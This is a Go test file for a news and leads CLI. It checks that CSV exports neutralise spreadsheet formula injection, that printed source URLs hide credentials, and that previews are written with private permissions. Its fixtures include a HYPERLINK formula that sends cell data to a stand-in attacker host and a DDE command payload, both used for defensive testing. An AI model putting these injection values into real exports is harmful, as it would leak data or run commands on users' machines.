package main

import (
	"bytes"
	"encoding/csv"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/veille-hq/veille/query"
	"github.com/veille-hq/veille/signals"
)

// TestCSVFormulaInjection checks that scraped text starting like a formula
// leaves `leads` and `signals --format csv` as text a spreadsheet does not
// run, while numeric columns keep their sign.
func TestCSVFormulaInjection(t *testing.T) {
	t.Parallel()
	const hyperlink = `=HYPERLINK("https://evil.example/?d="&A1,"Click")`
	hostile := map[string]string{
		hyperlink:            "'" + hyperlink,
		"+33 cmd|' /C calc'": "'+33 cmd|' /C calc'",
		"-2+3":               "'-2+3",
		"@SUM(A1:A2)":        "'@SUM(A1:A2)",
		"\t=1":               "'\t=1",
		"\r=1":               "'\r=1",
		"Breizh Conserves":   "Breizh Conserves",
		"élan = 1":           "élan = 1",
	}
	for in, want := range hostile {
		t.Run(in, func(t *testing.T) {
			var leads, sigs bytes.Buffer
			if err := printLeads(&leads, []signals.Lead{{Company: in, Watchlist: "agro", Score: 42, Trend7d: -12, Tier: signals.Hot}}, "csv"); err != nil {
				t.Fatal(err)
			}
			at := time.Date(2026, 11, 23, 6, 30, 0, 0, time.UTC)
			if err := printSignals(&sigs, []query.SignalView{{Signal: signals.Signal{Title: in, Company: "ACME", FirstSeen: at}, Points: -3}}, "csv"); err != nil {
				t.Fatal(err)
			}
			lr := rows(t, leads.Bytes())
			sr := rows(t, sigs.Bytes())
			if got := lr[1][0]; got != want {
				t.Errorf("leads company cell %q, want %q", got, want)
			}
			if got := lr[1][6]; got != "-12" {
				t.Errorf("leads trend_7d cell %q, want -12 (numbers are left as they are)", got)
			}
			if got := sr[1][5]; got != want {
				t.Errorf("signals title cell %q, want %q", got, want)
			}
			if got := sr[1][4]; got != "-3" {
				t.Errorf("signals points cell %q, want -3", got)
			}
		})
	}
}

func rows(t *testing.T, b []byte) [][]string {
	t.Helper()
	r, err := csv.NewReader(bytes.NewReader(b)).ReadAll()
	if err != nil || len(r) != 2 {
		t.Fatalf("csv %q: %d rows, %v", b, len(r), err)
	}
	return r
}

// TestSourcesRedactCredentials checks that `veille sources` (table and
// json) and `signals --format json` print no credential of a source URL,
// also from a last error stored unredacted.
func TestSourcesRedactCredentials(t *testing.T) {
	t.Parallel()
	const url = "https://bob:s3cretpw@feeds.example.com/news.xml?token=tok123&lang=fr"
	var v query.SourceView
	v.Kind, v.URL = "feed", url
	v.State.Failures, v.State.ErrorKind = 1, "http"
	v.State.LastError = `fetch ` + url + `: Get "` + url + `": status 500`
	v.State.FeedURL = url
	for _, format := range []string{"table", "json"} {
		var b bytes.Buffer
		if err := printSources(&b, []query.SourceView{v}, format); err != nil {
			t.Fatal(err)
		}
		out := b.String()
		if strings.Contains(out, "s3cretpw") || strings.Contains(out, "tok123") || !strings.Contains(out, "feeds.example.com/news.xml") {
			t.Errorf("sources --format %s leaks a credential or lost the URL:\n%s", format, out)
		}
	}
	var b bytes.Buffer
	sig := query.SignalView{Signal: signals.Signal{Title: "t", Source: url, Sources: []signals.SourceRef{{Source: url, URL: "https://feeds.example.com/a"}}}}
	if err := printSignals(&b, []query.SignalView{sig}, "json"); err != nil {
		t.Fatal(err)
	}
	if strings.Contains(b.String(), "s3cretpw") || strings.Contains(b.String(), "tok123") {
		t.Errorf("signals --format json leaks a credential:\n%s", b.String())
	}
}

// TestPreviewsArePrivate checks that digest previews are written 0600,
// also over an existing 0644 file.
func TestPreviewsArePrivate(t *testing.T) {
	t.Parallel()
	dir := filepath.Join(t.TempDir(), "out")
	if err := os.Mkdir(dir, 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(dir, "alice.html"), []byte("old"), 0o644); err != nil {
		t.Fatal(err)
	}
	e := &env{stdout: &bytes.Buffer{}, stderr: &bytes.Buffer{}}
	if err := writePreviews(e, dir, []signals.Message{{Rep: "alice", EML: []byte("eml"), HTML: "html"}}); err != nil {
		t.Fatal(err)
	}
	for _, name := range []string{"alice.eml", "alice.html"} {
		fi, err := os.Stat(filepath.Join(dir, name))
		if err != nil {
			t.Fatal(err)
		}
		if fi.Mode().Perm() != 0o600 {
			t.Errorf("%s: mode %v, want 0600", name, fi.Mode().Perm())
		}
	}
}

// A story carried by more outlets than a signal lists counts them all.
func TestSignalsCountEveryOutlet(t *testing.T) {
	t.Parallel()
	at := time.Date(2026, 3, 2, 9, 0, 0, 0, time.UTC)
	sig := query.SignalView{Signal: signals.Signal{Title: "t", Company: "ACME", FirstSeen: at,
		Sources: []signals.SourceRef{{Source: "https://a.example/feed"}, {Source: "https://b.example/feed"}}, MoreOutlets: 7}}
	for format, want := range map[string]string{"csv": ",9\n", "table": "  9  "} {
		var b bytes.Buffer
		if err := printSignals(&b, []query.SignalView{sig}, format); err != nil {
			t.Fatal(err)
		}
		if !strings.Contains(b.String(), want) {
			t.Errorf("%s output lacks the 9 outlets:\n%s", format, b.String())
		}
	}
}
